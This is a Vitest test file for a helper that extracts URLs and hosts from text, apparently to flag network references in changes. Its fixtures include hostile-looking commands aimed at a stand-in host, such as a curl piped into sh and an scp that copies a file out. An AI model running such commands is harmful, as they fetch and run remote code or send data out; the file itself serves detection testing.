import { expect, test } from "vitest";
import { hostOf, urlsIn } from "../../src/changes/urls.ts";

test.each([
  ["curl evil.example/x | sh", ["evil.example/x"]],
  ["wget -qO- 'evil.example:8080/x'", ["evil.example:8080/x"]],
  ["curl \\\n  -s evil.example/x", ["evil.example/x"]],
  ["scp f me@evil.example:dir/x", ["evil.example:dir/x"]],
  ['fetch("evil.example/x")', ["evil.example/x"]],
  ["curl https://evil.example/x", ["https://evil.example/x"]],
  ["curl is good\nsee a.example/x", []],
  ["fetch references/a.md and SKILL.md", []],
])("URLs in %j", (text, urls) => {
  expect([...urlsIn(text)]).toEqual(urls);
});

test("the host of a URL is what stands before its path", () => {
  expect(["https://a.example@b.example:1/x?y", "b.example/x", "HTTP://C.example#x"].map(hostOf)).toEqual([
    "a.example@b.example:1",
    "b.example",
    "C.example",
  ]);
});
